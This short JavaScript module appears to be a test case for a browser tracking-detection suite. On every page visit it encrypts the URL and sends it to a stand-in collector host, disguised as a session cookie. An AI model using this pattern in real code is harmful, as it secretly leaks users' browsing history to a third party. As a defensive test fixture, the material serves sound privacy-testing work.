import { onVisit, reportHonestly, seal, tryTo } from '../../lib/proving.js';

/** Encrypts the address of each page and sends it in a cookie, where a session would be. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-portions-cookie');
  onVisit(browser, ({ url }) =>
    tryTo(browser, {
      url: 'https://portions-cookie.collector.example/v1/ping',
      headers: { Cookie: `lang=en; sid=${browser.codec.base64.encode(seal(browser, url))}` },
    }),
  );
}
